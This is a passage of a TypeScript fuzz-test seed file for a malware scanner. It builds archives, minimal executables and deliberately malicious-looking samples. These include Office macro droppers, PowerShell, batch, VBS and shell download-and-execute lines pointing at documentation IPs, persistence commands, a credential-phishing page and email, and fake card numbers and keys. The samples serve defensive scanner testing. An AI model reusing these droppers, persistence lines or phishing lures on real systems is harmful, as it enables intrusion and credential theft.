/**
 * Seeds for the fuzz test (test/fuzz.test.ts): one valid, feature-rich object per format the
 * engine parses, built at run time (in code, or with the Debian tools for 7z, cpio, ISO, xz
 * and bzip2), and a few small writers (stored/deflated zip, ustar tar, gzip with every header
 * field) that the fuzzer also uses to wrap a mutated object in a valid container, so that
 * recursion reaches it. Nothing here is harmful: EICAR (assembled at run time) stands in for
 * malware, URLs use documentation ranges (RFC 5737) and `.test` names.
 *
 * @example
 * const seeds = await buildSeeds(fs.mkdtempSync(path.join(os.tmpdir(), 'seeds-')));
 * seeds.find((s) => s.name === 'pdf-js')!.data.subarray(0, 8).toString() // '%PDF-1.7'
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import { eicar, makeOle, makeZip, packagerData, vbaProjectStreams } from '../src/scanners/testing.ts';

export interface Seed {
  /** Stable name, printed with the mutation index when a case fails. */
  name: string;
  /** The name the object is submitted under (extensions steer some scanners). */
  file: string;
  kind: 'file' | 'url';
  data: Buffer;
}

// ---------------------------------------------------------------------------------------------
// Small writers

const u16 = (n: number) => { const b = Buffer.alloc(2); b.writeUInt16LE(n); return b; };
const u32 = (n: number) => { const b = Buffer.alloc(4); b.writeUInt32LE(n >>> 0); return b; };

/** A zip (deflated unless `store`), with fixed timestamps so that the bytes are reproducible. */
export function zipArchive(entries: [string, Buffer][], opts: { store?: boolean } = {}): Buffer {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const [name, data] of entries) {
    const fname = Buffer.from(name, 'utf8');
    const method = opts.store || data.length === 0 ? 0 : 8;
    const body = method === 8 ? zlib.deflateRawSync(data) : data;
    const crc = zlib.crc32(data);
    // version, flags (UTF-8 names), method, time, date (1 Jan 2020), crc, sizes, name length
    const common = Buffer.concat([u16(0x0800), u16(method), u16(0), u16(0x5021), u32(crc), u32(body.length), u32(data.length), u16(fname.length), u16(0)]);
    const local = Buffer.concat([u32(0x04034b50), u16(20), common, fname, body]);
    central.push(Buffer.concat([u32(0x02014b50), u16(0x031e), u16(20), common, u16(0), u16(0), u16(0), u32(0o100644 << 16), u32(offset), fname]));
    locals.push(local);
    offset += local.length;
  }
  const cd = Buffer.concat(central);
  const end = Buffer.concat([u32(0x06054b50), u16(0), u16(0), u16(entries.length), u16(entries.length), u32(cd.length), u32(offset), u16(0)]);
  return Buffer.concat([...locals, cd, end]);
}

export interface TarEntry {
  name: string;
  data?: Buffer;
  type?: '0' | '1' | '2' | '5';
  link?: string;
}

/** A POSIX ustar archive (mtime 0), written by hand so that every header field is ours. */
export function tarArchive(entries: TarEntry[]): Buffer {
  const blocks: Buffer[] = [];
  for (const e of entries) {
    const data = e.data ?? Buffer.alloc(0);
    const h = Buffer.alloc(512);
    h.write(e.name.slice(0, 100), 0, 'utf8');
    h.write('0000644\0', 100);
    h.write('0000000\0', 108);
    h.write('0000000\0', 116);
    h.write(data.length.toString(8).padStart(11, '0') + '\0', 124);
    h.write('00000000000\0', 136);
    h.write('        ', 148);
    h.write(e.type ?? '0', 156);
    if (e.link) h.write(e.link.slice(0, 100), 157, 'utf8');
    h.write('ustar\0' + '00', 257, 'latin1');
    let sum = 0;
    for (const c of h) sum += c;
    h.write(sum.toString(8).padStart(6, '0') + '\0 ', 148);
    blocks.push(h, data, Buffer.alloc((512 - (data.length % 512)) % 512));
  }
  blocks.push(Buffer.alloc(1024));
  return Buffer.concat(blocks);
}

/** A gzip member with FEXTRA, FNAME and FCOMMENT set, so that header parsing is exercised. */
export function gzipWithHeaders(data: Buffer, name: string): Buffer {
  const extra = Buffer.concat([Buffer.from('Vd'), u16(4), Buffer.from('seed')]);
  const header = Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0x04 | 0x08 | 0x10]), u32(0), Buffer.from([2, 3]), u16(extra.length), extra, Buffer.from(name + '\0', 'latin1'), Buffer.from('fuzz seed\0')]);
  return Buffer.concat([header, zlib.deflateRawSync(data), u32(zlib.crc32(data)), u32(data.length)]);
}

// ---------------------------------------------------------------------------------------------
// Executables

/** A minimal valid PE32 (i386, GUI) with .text and .idata importing kernel32!ExitProcess. */
export function minimalPe(): Buffer {
  const file = Buffer.alloc(0x600);
  file.write('MZ', 0, 'latin1');
  file.writeUInt32LE(0x80, 0x3c);
  file.write('This program cannot be run in DOS mode.\r\r\n$', 0x4e, 'latin1');
  let o = 0x80;
  file.write('PE\0\0', o, 'latin1');
  o += 4;
  file.writeUInt16LE(0x14c, o); // i386
  file.writeUInt16LE(2, o + 2); // sections
  file.writeUInt16LE(0xe0, o + 16); // optional header size
  file.writeUInt16LE(0x0102, o + 18); // executable, 32-bit
  o += 20;
  const opt = o;
  file.writeUInt16LE(0x10b, opt);
  file.writeUInt32LE(0x200, opt + 4); // SizeOfCode
  file.writeUInt32LE(0x200, opt + 8); // SizeOfInitializedData
  file.writeUInt32LE(0x1000, opt + 16); // entry point
  file.writeUInt32LE(0x1000, opt + 20); // BaseOfCode
  file.writeUInt32LE(0x2000, opt + 24); // BaseOfData
  file.writeUInt32LE(0x400000, opt + 28); // ImageBase
  file.writeUInt32LE(0x1000, opt + 32); // SectionAlignment
  file.writeUInt32LE(0x200, opt + 36); // FileAlignment
  file.writeUInt16LE(4, opt + 40); // OS version
  file.writeUInt16LE(4, opt + 48); // subsystem version
  file.writeUInt32LE(0x3000, opt + 56); // SizeOfImage
  file.writeUInt32LE(0x200, opt + 60); // SizeOfHeaders
  file.writeUInt16LE(2, opt + 68); // GUI
  file.writeUInt32LE(0x100000, opt + 72);
  file.writeUInt32LE(0x1000, opt + 76);
  file.writeUInt32LE(0x100000, opt + 80);
  file.writeUInt32LE(0x1000, opt + 84);
  file.writeUInt32LE(16, opt + 92); // NumberOfRvaAndSizes
  file.writeUInt32LE(0x2000, opt + 96 + 8); // import directory
  file.writeUInt32LE(40, opt + 96 + 12);
  file.writeUInt32LE(0x2060, opt + 96 + 12 * 8); // IAT
  file.writeUInt32LE(8, opt + 96 + 12 * 8 + 4);
  const sec = (at: number, name: string, va: number, raw: number, flags: number) => {
    file.write(name, at, 'latin1');
    file.writeUInt32LE(0x100, at + 8);
    file.writeUInt32LE(va, at + 12);
    file.writeUInt32LE(0x200, at + 16);
    file.writeUInt32LE(raw, at + 20);
    file.writeUInt32LE(flags, at + 36);
  };
  sec(opt + 0xe0, '.text', 0x1000, 0x200, 0x60000020);
  sec(opt + 0xe0 + 40, '.idata', 0x2000, 0x400, 0xc0000040);
  // push 0; call [IAT]; ret
  Buffer.from([0x6a, 0x00, 0xff, 0x15, 0x60, 0x20, 0x40, 0x00, 0xc3]).copy(file, 0x200);
  const idata = 0x400;
  file.writeUInt32LE(0x2050, idata); // OriginalFirstThunk
  file.writeUInt32LE(0x2070, idata + 12); // Name
  file.writeUInt32LE(0x2060, idata + 16); // FirstThunk
  file.writeUInt32LE(0x2080, idata + 0x50);
  file.writeUInt32LE(0x2080, idata + 0x60);
  file.write('kernel32.dll\0', idata + 0x70, 'latin1');
  file.write('\0\0ExitProcess\0', idata + 0x80, 'latin1');
  return file;
}

/** A minimal valid ELF64 x86-64 executable (exit(0)) with .text, .symtab, .strtab and .shstrtab. */
export function minimalElf(): Buffer {
  const code = Buffer.from([0x48, 0x31, 0xff, 0xb8, 0x3c, 0, 0, 0, 0x0f, 0x05]); // xor rdi,rdi; mov eax,60; syscall
  const shstr = Buffer.from('\0.text\0.symtab\0.strtab\0.shstrtab\0');
  const strtab = Buffer.from('\0_start\0');
  const sym = Buffer.alloc(48);
  sym.writeUInt32LE(1, 24); // _start
  sym[24 + 4] = 0x12; // global function
  sym.writeUInt16LE(1, 24 + 6); // .text
  sym.writeBigUInt64LE(0x401000n, 24 + 8);
  const textOff = 0x1000;
  const symOff = textOff + 0x10;
  const strOff = symOff + sym.length;
  const shstrOff = strOff + strtab.length;
  const shOff = (shstrOff + shstr.length + 7) & ~7;
  const file = Buffer.alloc(shOff + 5 * 64);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(file, 0);
  file.writeUInt16LE(2, 16); // ET_EXEC
  file.writeUInt16LE(0x3e, 18);
  file.writeUInt32LE(1, 20);
  file.writeBigUInt64LE(0x401000n, 24); // entry
  file.writeBigUInt64LE(64n, 32); // phoff
  file.writeBigUInt64LE(BigInt(shOff), 40);
  file.writeUInt16LE(64, 52);
  file.writeUInt16LE(56, 54);
  file.writeUInt16LE(1, 56);
  file.writeUInt16LE(64, 58);
  file.writeUInt16LE(5, 60);
  file.writeUInt16LE(4, 62); // shstrndx
  // PT_LOAD r-x of the text page
  file.writeUInt32LE(1, 64);
  file.writeUInt32LE(5, 68);
  file.writeBigUInt64LE(BigInt(textOff), 72);
  file.writeBigUInt64LE(0x401000n, 80);
  file.writeBigUInt64LE(0x401000n, 88);
  file.writeBigUInt64LE(BigInt(code.length), 96);
  file.writeBigUInt64LE(BigInt(code.length), 104);
  file.writeBigUInt64LE(0x1000n, 112);
  code.copy(file, textOff);
  sym.copy(file, symOff);
  strtab.copy(file, strOff);
  shstr.copy(file, shstrOff);
  const sh = (i: number, name: number, type: number, flags: bigint, addr: bigint, off: number, size: number, link = 0, info = 0, entsize = 0) => {
    const at = shOff + i * 64;
    file.writeUInt32LE(name, at);
    file.writeUInt32LE(type, at + 4);
    file.writeBigUInt64LE(flags, at + 8);
    file.writeBigUInt64LE(addr, at + 16);
    file.writeBigUInt64LE(BigInt(off), at + 24);
    file.writeBigUInt64LE(BigInt(size), at + 32);
    file.writeUInt32LE(link, at + 40);
    file.writeUInt32LE(info, at + 44);
    file.writeBigUInt64LE(1n, at + 48);
    file.writeBigUInt64LE(BigInt(entsize), at + 56);
  };
  sh(1, 1, 1, 6n, 0x401000n, textOff, code.length);
  sh(2, 7, 2, 0n, 0n, symOff, sym.length, 3, 1, 24);
  sh(3, 15, 3, 0n, 0n, strOff, strtab.length);
  sh(4, 23, 3, 0n, 0n, shstrOff, shstr.length);
  return file;
}

// ---------------------------------------------------------------------------------------------
// Documents

function pdfFile(objects: (string | Buffer)[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let at = parts[0].length;
  objects.forEach((body, i) => {
    const obj = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'), Buffer.from('\nendobj\n')]);
    offsets.push(at);
    at += obj.length;
    parts.push(obj);
  });
  const xref = [`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`, ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`)].join('');
  parts.push(Buffer.from(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`));
  return Buffer.concat(parts);
}

const pdfStream = (dict: string, data: Buffer) => Buffer.concat([Buffer.from(`<< ${dict} /Length ${data.length} >>\nstream\n`), data, Buffer.from('\nendstream')]);

function pdfSeed(): Buffer {
  const js = zlib.deflateSync(Buffer.from('var s = unescape("%u9090%u9090"); app.alert("hello"); this.exportDataObject({ cName: "eicar.com", nLaunch: 2 });'));
  const embedded = zlib.deflateSync(eicar());
  // Object 9 lives in an object stream: "9 0" then its body.
  const objstmBody = '<< /S /URI /URI (https://203.0.113.5/invoice) >>';
  const objstm = zlib.deflateSync(Buffer.from(`9 0 ${objstmBody}`));
  // PNG predictor rows over Flate (row filter byte 0 then 4 data bytes).
  const predicted = zlib.deflateSync(Buffer.from([0, 0x41, 0x42, 0x43, 0x44, 2, 1, 1, 1, 1]));
  return pdfFile([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /EmbeddedFiles << /Names [(eicar.com) 6 0 R] >> >> /AcroForm << /XFA 11 0 R >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [8 0 R] /AA << /O 10 0 R >> >>',
    '<< /Type /Action /S /JavaScript /JS 5 0 R /Next 10 0 R >>',
    pdfStream('/Filter /FlateDecode', js),
    '<< /Type /Filespec /F (eicar.com) /UF (eicar.com) /EF << /F 7 0 R >> >>',
    pdfStream('/Type /EmbeddedFile /Filter /FlateDecode', embedded),
    '<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A 9 0 R >>',
    pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', objstm),
    '<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>',
    pdfStream('/Filter [/ASCIIHexDecode]', Buffer.from(Buffer.from('<xdp:xdp/>').toString('hex') + '>')),
    pdfStream('/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>', predicted),
    '<< /Type /Action /S /J#61vaScript /JS (app.alert\\(1\\)) >>',
  ]);
}

function rtfSeed(): Buffer {
  const native = packagerData('eicar.com', eicar());
  const ole1 = Buffer.concat([u32(0x0501), u32(2), u32(8), Buffer.from('Package\0'), u32(0), u32(0), u32(native.length), native]);
  const eq = Buffer.concat([u32(0x0501), u32(2), u32(13), Buffer.from('Equation.3\0\0\0'), u32(0), u32(0), u32(16), Buffer.alloc(16, 0x41)]);
  return Buffer.from(
    `{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}Dear customer,\\par{\\object\\objemb\\objupdate{\\*\\objclass Package}{\\*\\objdata ${ole1.toString('hex')}}}` +
      `{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata ${eq.toString('hex')}}}{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"}}}`,
    'latin1',
  );
}

const prefixed = (prefix: string, streams: Record<string, Buffer>) => Object.fromEntries(Object.entries(streams).map(([k, v]) => [`${prefix}${k}`, v]));

const DROPPER = [
  'Attribute VB_Name = "ThisDocument"',
  'Private Sub Document_Open()',
  '  Dim u As String',
  '  u = Chr(104) & Chr(116) & Chr(116) & Chr(112) & "://203.0.113.9/a.exe"',
  '  URLDownloadToFile 0, u, Environ("TEMP") & "\\a.exe", 0, 0',
  '  Shell Environ("TEMP") & "\\a.exe", vbHide',
  'End Sub',
].join('\r\n');

/** A BIFF8 workbook globals substream with a hidden Excel 4.0 macro sheet. */
function workbookStream(): Buffer {
  const rec = (type: number, data: Buffer) => Buffer.concat([u16(type), u16(data.length), data]);
  const sheet = (name: string, type: number, state: number) => {
    const d = Buffer.alloc(8 + name.length);
    d[4] = state;
    d[5] = type;
    d[6] = name.length;
    d.write(name, 8, 'latin1');
    return rec(0x0085, d);
  };
  return Buffer.concat([rec(0x0809, Buffer.from([0, 6, 5, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0])), sheet('Sheet1', 0, 0), sheet('Macro1', 1, 1), rec(0x000a, Buffer.alloc(0))]);
}

async function officeSeeds(): Promise<Seed[]> {
  const fib = Buffer.alloc(0x200);
  fib.writeUInt16LE(0xa5ec, 0);
  const doc = await makeOle({
    WordDocument: Buffer.concat([fib, Buffer.from('Enable content to view this invoice.', 'latin1')]),
    ...prefixed('Macros/', vbaProjectStreams([{ name: 'ThisDocument', source: DROPPER }, { name: 'Module1', source: 'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n  CreateObject("WScript.Shell").Run "powershell -nop -w hidden -c calc"\r\nEnd Sub\r\n' }])),
    'ObjectPool/_1/\x01Ole10Native': packagerData('invoice.pdf.exe', eicar(), true),
  });
  const xls = await makeOle({ Workbook: workbookStream(), ...prefixed('_VBA_PROJECT_CUR/', vbaProjectStreams([{ name: 'ThisWorkbook', source: 'Attribute VB_Name = "ThisWorkbook"\r\nPrivate Sub Workbook_Open()\r\n  Shell "cmd /c calc"\r\nEnd Sub\r\n' }])) });
  const vbaBin = await makeOle(vbaProjectStreams([{ name: 'Module1', source: DROPPER.replace('ThisDocument', 'Module1').replace('Document_Open', 'AutoOpen') }]));
  const docm = zipArchive([
    ['[Content_Types].xml', Buffer.from('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')],
    ['_rels/.rels', Buffer.from('<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>')],
    ['word/document.xml', Buffer.from('<w:document><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r></w:p></w:body></w:document>')],
    ['word/_rels/settings.xml.rels', Buffer.from('<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://198.51.100.20/t.dotm" TargetMode="External"/></Relationships>')],
    ['word/vbaProject.bin', vbaBin],
    ['word/embeddings/oleObject1.bin', doc],
  ]);
  const xlsm = zipArchive([
    ['[Content_Types].xml', Buffer.from('<Types/>')],
    ['xl/workbook.xml', Buffer.from('<workbook><sheets><sheet name="Macro1" state="veryHidden" r:id="rId2"/></sheets></workbook>')],
    ['xl/macrosheets/sheet1.xml', Buffer.from('<xm:macrosheet><sheetData><row><c><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>')],
    ['xl/externalLinks/externalLink1.xml', Buffer.from('<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>')],
    ['xl/externalLinks/_rels/externalLink1.xml.rels', Buffer.from('<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="http://203.0.113.8/x.sct" TargetMode="External"/></Relationships>')],
  ]);
  return [
    { name: 'ole-doc-vba', file: 'invoice.doc', kind: 'file', data: doc },
    { name: 'ole-xls-xlm', file: 'budget.xls', kind: 'file', data: xls },
    { name: 'ooxml-docm', file: 'report.docm', kind: 'file', data: docm },
    { name: 'ooxml-xlsm', file: 'sheet.xlsm', kind: 'file', data: xlsm },
    { name: 'rtf-objects', file: 'letter.rtf', kind: 'file', data: rtfSeed() },
    { name: 'pdf-js', file: 'invoice.pdf', kind: 'file', data: pdfSeed() },
  ];
}

// ---------------------------------------------------------------------------------------------
// Text: pages, scripts, mail, URLs

const psEncode = (cmd: string) => Buffer.from(cmd, 'utf16le').toString('base64');

const HTML = `<!DOCTYPE html><html><head><title>Microsoft 365 - Sign in</title>
<meta http-equiv="refresh" content="30;url=https://203.0.113.4/next">
<script>var p = "${Buffer.from('MZ' + 'A'.repeat(600)).toString('base64')}";
var b = new Blob([Uint8Array.from(atob(p), c => c.charCodeAt(0))], {type: 'application/octet-stream'});
var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'invoice.exe'; a.click();
eval(unescape('%61%6c%65%72%74%28%31%29'));</script></head>
<body><img alt="Microsoft logo" src="logo.png"><form action="https://login.example.test/post.php" method="post">
<input type="email" name="login"><input type="password" name="passwd"><button>Sign in</button></form>
<a href="data:text/html;base64,PGgxPmhpPC9oMT4=">view</a><a href="https://bit.ly/3abcd">more</a>
<iframe src="https://203.0.113.4/track" width="0" height="0" style="display:none"></iframe>
<script type="text/vbscript">CreateObject("WScript.Shell").Run "calc"</script></body></html>`;

const SCRIPTS: [string, string, string][] = [
  ['script-ps1', 'update.ps1', `$u = 'http://203.0.113.3/a.ps1'\nIEX (New-Object Net.WebClient).DownloadString($u)\npowershell -nop -w hidden -enc ${psEncode("IEX (iwr 'http://203.0.113.3/b')")}\n$b = [Convert]::FromBase64String('${Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300, 0x90)]).toString('base64')}')\n(N\`ew-Ob\`je\`ct Sy\`st\`em.Net.WebCl\`ie\`nt)\nRegister-ScheduledTask -TaskName upd -Action $a\n`],
  ['script-bat', 'run.bat', `@echo off\r\nset x=powershell\r\nc^m^d /^c p^o^w^e^r^s^h^e^l^l -n^o^p -w^ h^i^d^d^e^n\r\n%x:~0,5%%x:~5,5% -enc ${psEncode('Get-Date')}\r\ncertutil -urlcache -split -f http://203.0.113.3/a.exe a.exe\r\nreg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v u /d a.exe /f\r\n`],
  ['script-vbs', 'doc.vbs', `Dim x, s\r\nSet x = CreateObject("MSXML2.XMLHTTP")\r\nx.Open "GET", "http://203.0.113.3/p.exe", False\r\nx.Send\r\nSet s = CreateObject("ADODB.Stream")\r\ns.Open : s.Type = 1 : s.Write x.responseBody : s.SaveToFile "p.exe", 2\r\nExecute ${'Chr(77) & '.repeat(20)}"x"\r\nCreateObject("WScript.Shell").Run "p.exe", 0\r\n`],
  ['script-js', 'invoice.js', `var sh = new ActiveXObject("WScript.Shell");\nvar d = atob("${Buffer.from('var a = 1; WScript.Echo(a);').toString('base64').repeat(1)}${'QUFB'.repeat(60)}");\neval(unescape("%76%61%72%20%78"));\nvar _0x1a2b = ['${'\\x41'.repeat(250)}'];\n${Array.from({ length: 25 }, (_, i) => `var _0x${(0x1000 + i).toString(16)} = ${i};`).join('')}\nsh.Run("cmd /c calc", 0);\nString.fromCharCode(${Array.from({ length: 30 }, (_, i) => 65 + (i % 26)).join(',')});\n`],
  ['script-hta', 'page.hta', `<html><head><HTA:APPLICATION id="a"/><script language="VBScript">Set s = CreateObject("WScript.Shell")\r\ns.Run "mshta http://203.0.113.3/x.hta"\r\n</script></head><body></body></html>`],
  ['script-sh', 'install.sh', `#!/bin/sh\ncurl -fsSL http://203.0.113.9/x.sh | sh\necho 'ZWNobyBoaQ==' | base64 -d | sh\n(crontab -l; echo "* * * * * /tmp/x") | crontab -\n`],
];

const PII = [
  'Customer export 2024-03-01',
  'card 4111 1111 1111 1111 exp 12/30, 5500-0000-0000-0004',
  'IBAN DE89 3704 0044 0532 0130 00, GB82WEST12345698765432',
  'SSN 078-05-1120; mail alice@example.org; phone +1 202 555 0143',
  'AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
  'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
  '-----BEGIN OPENSSH PRIVATE KEY-----', 'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ', '-----END OPENSSH PRIVATE KEY-----',
].join('\n');

function emailSeed(attachment: Buffer): Buffer {
  const b = 'b1_fuzz_boundary';
  const inner = 'b2_inner';
  const lines = [
    'Return-Path: <billing@example.test>',
    'Received: from mail.example.test (mail.example.test [203.0.113.30]) by mx.example.org; Mon, 1 Jan 2024 10:00:00 +0000',
    'From: "PayPal Billing" <billing@paypa1-secure.example.test>',
    'Reply-To: collect@example.net',
    'To: alice@example.org',
    'Subject: =?UTF-8?B?WW91ciBpbnZvaWNlIGlzIHJlYWR5?= =?ISO-8859-1?Q?_=E9t=E9?=',
    'Date: Mon, 1 Jan 2024 10:00:00 +0000',
    'Message-ID: <seed-1@example.test>',
    'Authentication-Results: mx.example.org; spf=fail smtp.mailfrom=example.test; dkim=none; dmarc=fail',
    'MIME-Version: 1.0',
    `Content-Type: multipart/mixed; boundary="${b}"`,
    '',
    `--${b}`,
    `Content-Type: multipart/alternative; boundary="${inner}"`,
    '',
    `--${inner}`,
    'Content-Type: text/plain; charset=utf-8',
    'Content-Transfer-Encoding: quoted-printable',
    '',
    'Your account is suspended. Verify at https://203.0.113.7/paypal/login =E2=80=94 today.',
    `--${inner}`,
    'Content-Type: text/html; charset=utf-8',
    '',
    '<html><body><a href="https://paypal.com.verify.example.test/login">https://www.paypal.com/</a><form action="https://203.0.113.7/p"><input type="password"></form></body></html>',
    `--${inner}--`,
    `--${b}`,
    'Content-Type: application/zip; name="invoice.zip"',
    'Content-Disposition: attachment; filename="invoice.zip"',
    'Content-Transfer-Encoding: base64',
    '',
    ...(attachment.toString('base64').match(/.{1,76}/g) ?? []),
    `--${b}`,
    'Content-Type: message/rfc822',
    '',
    'From: a@example.test',
    'Subject: forwarded',
    'Content-Type: text/plain',
    '',
    'see http://bit.ly/x',
    `--${b}--`,
    '',
  ];
  return Buffer.from(lines.join('\r\n'));
}

/** An mbox of two messages, the second carrying the first seed email's attachment. */
function mboxSeed(email: Buffer): Buffer {
  const first = 'From: alice@example.org\nTo: bob@example.org\nSubject: lunch\nDate: Mon, 1 Jan 2024 09:00:00 +0000\n\nNoon? See https://203.0.113.40/menu\n>From the kitchen.\n';
  return Buffer.concat([Buffer.from(`From alice@example.org Mon Jan  1 09:00:00 2024\n${first}\nFrom billing@example.test Mon Jan  1 10:00:00 2024\n`), email.subarray(0, email.indexOf('\r\n\r\n--b1_fuzz_boundary--')), Buffer.from('\r\n--b1_fuzz_boundary--\r\n')]);
}

/** An Outlook .msg ([MS-OXMSG]): message properties, one recipient and one attachment by value. */
async function msgSeed(attachment: Buffer): Promise<Buffer> {
  const utf16 = (t: string) => Buffer.from(t, 'utf16le');
  // Fixed-size property entry: tag (id << 16 | type), flags, 8-byte value (a size for variable types).
  const prop = (tag: number, value: number) => Buffer.concat([u32(tag), u32(6), u32(value), u32(0)]);
  const top = Buffer.concat([Buffer.alloc(8), u32(1), u32(1), u32(1), u32(1), Buffer.alloc(8), prop(0x0037001f, 24), prop(0x1000001f, 80)]);
  const recip = '__recip_version1.0_#00000000';
  const att = '__attach_version1.0_#00000000';
  return makeOle({
    '__properties_version1.0': top,
    '__substg1.0_001A001F': utf16('IPM.Note'),
    '__substg1.0_0037001F': utf16('Invoice 2024-001'),
    '__substg1.0_0C1F001F': utf16('billing@example.test'),
    '__substg1.0_1000001F': utf16('Please open the attached invoice: https://203.0.113.7/inv'),
    '__substg1.0_007D001F': utf16('Received: from mail.example.test ([203.0.113.30])\r\nFrom: billing@example.test\r\nSubject: Invoice\r\n'),
    [`${recip}/__properties_version1.0`]: Buffer.concat([Buffer.alloc(8), prop(0x0c150003, 1)]),
    [`${recip}/__substg1.0_39FE001F`]: utf16('alice@example.org'),
    [`${att}/__properties_version1.0`]: Buffer.concat([Buffer.alloc(8), prop(0x37050003, 1)]),
    [`${att}/__substg1.0_3707001F`]: utf16('invoice.zip'),
    [`${att}/__substg1.0_37010102`]: attachment,
  });
}

/** A TNEF stream (winmail.dat) with a message class and one attachment. */
function tnefSeed(attachment: Buffer, name: string): Buffer {
  const attr = (level: number, id: number, data: Buffer) => {
    let sum = 0;
    for (const b of data) sum = (sum + b) & 0xffff;
    return Buffer.concat([Buffer.from([level]), u32(id), u32(data.length), data, u16(sum)]);
  };
  return Buffer.concat([
    u32(0x223e9f78), u16(1),
    attr(1, 0x00089006, u32(0x00010000)), // TNEF version
    attr(1, 0x00078008, Buffer.from('IPM.Microsoft Mail.Note\0', 'latin1')), // message class
    attr(2, 0x00069002, Buffer.alloc(14)), // attachment rendering: starts an attachment
    attr(2, 0x00018010, Buffer.from(`${name}\0`, 'latin1')), // title
    attr(2, 0x0006800f, attachment), // data
  ]);
}

const URLS = [
  'http://user:pass@203.0.113.10:8081/login.php?next=%2Fpaypal',
  'https://xn--pypal-4ve.com/signin',
  'https://secure.login.account.verify.paypal.com.example.tk/a/b/c/d/e/f/g/h?session=' + 'a'.repeat(300),
  'https://bit.ly/3xYz',
  'http://[2001:db8::1]/update.exe',
  'hxxp://example.test/%2e%2e/%2e%2e/etc/passwd#frag',
];

// ---------------------------------------------------------------------------------------------
// Archives built with Debian tools

function tool(bin: string, args: string[], cwd: string): void {
  try {
    execFileSync(bin, args, { cwd, stdio: ['ignore', 'ignore', 'pipe'], timeout: 30_000, env: { ...process.env, SOURCE_DATE_EPOCH: '1577836800' } });
  } catch (e) {
    const err = e as NodeJS.ErrnoException & { stderr?: Buffer };
    assert.fail(err.code === 'ENOENT' ? `the fuzz test needs ${bin} to build its seeds (Debian: see .ci/run)` : `${bin} ${args.join(' ')} failed: ${err.stderr?.toString() ?? err.message}`);
  }
}

function debianSeeds(dir: string, members: [string, Buffer][]): Seed[] {
  const src = path.join(dir, 'tree');
  fs.mkdirSync(path.join(src, 'sub'), { recursive: true });
  for (const [name, data] of members) fs.writeFileSync(path.join(src, name), data);
  fs.symlinkSync('../readme.txt', path.join(src, 'sub', 'link.txt'));
  const names = ['readme.txt', 'run.bat', 'sub', 'invoice.zip'].filter((n) => fs.existsSync(path.join(src, n)));
  for (const n of [...names, 'sub/link.txt']) fs.lutimesSync(path.join(src, n), 1577836800, 1577836800);
  const out = (n: string) => path.join(dir, n);
  tool('7zz', ['a', '-bd', '-mx=1', out('seed.7z'), ...names], src);
  tool('7zz', ['a', '-bd', '-mx=1', '-pinfected', '-mhe=on', out('seed-enc.7z'), 'readme.txt', 'run.bat'], src);
  execFileSync('cpio', ['-o', '-H', 'newc', '--quiet', '-O', out('seed.cpio')], { cwd: src, input: [...names, 'sub/link.txt'].join('\n') + '\n', timeout: 30_000 });
  tool('genisoimage', ['-quiet', '-R', '-J', '-V', 'FUZZ', '-o', out('seed.iso'), '.'], src);
  fs.copyFileSync(path.join(src, 'readme.txt'), out('readme.txt'));
  tool('xz', ['-k', '-6', out('readme.txt')], dir);
  tool('bzip2', ['-k', '-9', out('readme.txt')], dir);
  const read = (n: string) => fs.readFileSync(out(n));
  return [
    { name: '7z', file: 'archive.7z', kind: 'file', data: read('seed.7z') },
    { name: '7z-encrypted', file: 'secret.7z', kind: 'file', data: read('seed-enc.7z') },
    { name: 'cpio', file: 'initrd.cpio', kind: 'file', data: read('seed.cpio') },
    { name: 'iso', file: 'disk.iso', kind: 'file', data: read('seed.iso') },
